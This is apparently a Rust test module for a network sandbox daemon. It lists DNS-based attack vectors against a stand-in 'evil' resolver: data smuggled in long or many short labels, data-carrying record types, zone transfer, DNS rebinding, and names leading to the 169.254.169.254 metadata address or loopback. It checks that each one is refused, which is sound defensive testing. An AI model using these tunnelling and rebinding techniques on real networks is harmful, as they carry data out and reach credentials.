//! What DNS could carry out, and where it could lead.

use serde_json::{Value, json};

use super::{DATAGRAM, vector};
use crate::adversary::{
    ground::{EVIL, EVIL_V6},
    vector::{Group, Vector},
};

/// Reasons under which a name is refused: no rule has it, nobody needs its kind, it is too long.
const DNS: &[&str] = &["dns"];
const KIND: &[&str] = &["dns_type"];
const LENGTH: &[&str] = &["dns_name_length"];

fn ask(name: &str, tries: &'static str, with: Value) -> Vector {
    vector(Group::Names, name, tries, "ask", move |_| with.clone()).refused(&["NXDOMAIN"], DNS)
}

fn order(name: &str, tries: &'static str, order: &'static str, with: Value) -> Vector {
    vector(Group::Names, name, tries, order, move |_| with.clone())
}

pub(super) fn vectors() -> Vec<Vector> {
    let mut all = vec![
        ask(
            "unknown",
            "a name that no rule has",
            json!({"server": EVIL, "name": "evil.test"}),
        ),
        ask(
            "unknown-v6",
            "the same of a resolver over IPv6",
            json!({"server": EVIL_V6, "name": "evil6.test"}),
        ),
        ask(
            "unknown-tcp",
            "the same over TCP",
            json!({"server": EVIL, "name": "evil-tcp.test", "tcp": true}),
        ),
        ask(
            "below-known",
            "a name below one that is known",
            json!({"server": EVIL, "name": "x.mirror.example.evil.test"}),
        ),
        ask(
            "lookalike",
            "a name that ends like one that is known",
            json!({"server": EVIL, "name": "evilmirror.example"}),
        ),
        order(
            "resolver",
            "an unknown name by getaddrinfo()",
            "by-library",
            json!({"name": "evil-libc.test"}),
        )
        .without_control("the machine's resolver is not in these namespaces")
        .refused(&["NXDOMAIN"], DNS),
        order(
            "smuggle",
            "data in labels of 63 bytes",
            "smuggle",
            json!({"server": EVIL, "domain": "evil.test", "bytes": 110, "width": 63}),
        )
        .refused(&["NXDOMAIN"], LENGTH),
        order(
            "smuggle-known",
            "the same below a name that is known",
            "smuggle",
            json!({"server": EVIL, "domain": "mirror.example", "bytes": 100, "width": 50}),
        )
        .refused(&["NXDOMAIN"], LENGTH),
        order(
            "drip",
            "data in many short names",
            "drip",
            json!({"server": EVIL, "domain": "drip.test", "count": 25}),
        )
        .refused(&["NXDOMAIN"], DNS),
        order(
            "binary-label",
            "bytes that no host's name has",
            "binary-label",
            json!({"server": EVIL, "domain": "evil.test"}),
        )
        .refused(&["NXDOMAIN"], DNS),
    ];
    for (kind, reasons) in [
        ("TXT", KIND),
        ("NULL", KIND),
        ("MX", KIND),
        ("SRV", DNS),
        ("HTTPS", DNS),
        ("CNAME", KIND),
        ("NS", KIND),
        ("SOA", KIND),
        ("ANY", KIND),
        ("PTR", DNS),
    ] {
        let name = format!("{}-unknown", kind.to_lowercase());
        let question = ask(
            &name,
            "a question of a kind that carries data, for an unknown name",
            json!({"server": EVIL, "name": format!("{name}.test"), "kind": kind}),
        );
        all.push(question.refused(&["NXDOMAIN"], reasons));
    }
    for (kind, name) in [
        ("TXT", "txt-known"),
        ("NULL", "null-known"),
        ("ANY", "any-known"),
    ] {
        all.push(
            ask(
                name,
                "the same for a known name: there is nothing but addresses",
                json!({"server": EVIL, "name": "mirror.example", "kind": kind}),
            )
            .refused(&["NOERROR"], KIND),
        );
    }
    all.push(
        ask(
            "https-known",
            "HTTPS records of a known name, which would bring ECH and HTTP/3",
            json!({"server": EVIL, "name": "mirror.example", "kind": "HTTPS"}),
        )
        .silent(&["NOERROR"], "there are none, and clients do without"),
    );
    all.extend([
        ask(
            "axfr",
            "a zone's transfer over TCP",
            json!({"server": EVIL, "name": "axfr.test", "kind": "AXFR", "tcp": true}),
        )
        .refused(&["NXDOMAIN"], KIND),
        ask(
            "chaos",
            "a question of class CHAOS",
            json!({"server": EVIL, "name": "version.bind", "kind": "TXT", "klass": 3}),
        )
        .silent(&["REFUSED"], "no class but IN is answered"),
        ask(
            "update",
            "an UPDATE in place of a question",
            json!({"server": EVIL, "name": "evil.test", "opcode": 5}),
        )
        .silent(&["NOTIMP"], "no other kind of message is answered"),
        ask(
            "two-questions",
            "two questions in one",
            json!({"server": EVIL, "name": "evil.test", "questions": 2}),
        )
        .silent(
            &["FORMERR"],
            "the message is at fault, and its sender is told",
        ),
        order(
            "edns-data",
            "data in an option of EDNS, beside a known name that is looked up",
            "with-option",
            json!({"server": EVIL, "name": "looked-up.example"}),
        )
        .silent(
            &["NOERROR, 1 answers"],
            "the daemon's own question has no options",
        ),
        order(
            "loop",
            "a name that points at itself",
            "looping",
            json!({"server": EVIL}),
        )
        .silent(
            &["FORMERR"],
            "the message is at fault, and its sender is told",
        ),
        order(
            "garbage",
            "a datagram to port 53 that is no DNS",
            "garbage",
            json!({"server": EVIL}),
        )
        .silent(
            &["FORMERR"],
            "the message is at fault, and its sender is told",
        ),
        order(
            "unasked",
            "a response where a question is awaited",
            "answer-unasked",
            json!({"server": EVIL}),
        )
        .silent(&["sent, then silence"], "responses are ignored"),
        order(
            "no-dns",
            "a TCP connection to port 53 that is no DNS",
            "no-dns-over-tcp",
            json!({"server": EVIL}),
        )
        .silent(
            &["connected, then closed"],
            "a message at fault ends its connection",
        ),
        order(
            "rebind",
            "a name that leads to the public first, and then to a private address",
            "exchange-twice",
            json!({"sni": "rebind.example"}),
        )
        .without_control("it is the daemon's resolution that is tried")
        .refused(
            &["status 200, then alert internal_error"],
            &["upstream_unreachable"],
        )
        .saying(PRIVATE)
        .released(),
        lead(
            "private",
            "an allowed name that leads to a private address",
            "private.example",
        ),
        lead(
            "to-metadata",
            "an allowed name that leads to 169.254.169.254",
            "metadata.example",
        ),
        lead(
            "to-loopback",
            "an allowed name that leads to the daemon's loopback",
            "loopback.example",
        ),
    ]);
    all.extend([
        order(
            "llmnr",
            "LLMNR by multicast, port 5355",
            "multicast",
            json!({"address": "224.0.0.252", "port": 5355, "device": "out0"}),
        )
        .refused(&["refused EPERM"], DATAGRAM),
        order(
            "netbios",
            "NetBIOS names, port 137",
            "send-to",
            json!({"address": EVIL, "port": 137}),
        )
        .refused(&["refused EPERM"], DATAGRAM),
    ]);
    all
}

/// The daemon dials what it resolves itself, and refuses.
fn lead(name: &str, tries: &'static str, sni: &'static str) -> Vector {
    order(name, tries, "exchange", json!({
        "to": EVIL, "sni": sni,
        "request": format!("GET / HTTP/1.1\r\nHost: {sni}\r\nAuthorization: Bearer openshell:resolve:env:KEY\r\n\r\n"),
    }))
    .without_control("it is the daemon's resolution that is tried")
    .refused(&["alert internal_error"], &["upstream_unreachable"])
    .saying(PRIVATE)
}

/// What the event of an address says that no name may lead to.
const PRIVATE: &str = "is not a public address";
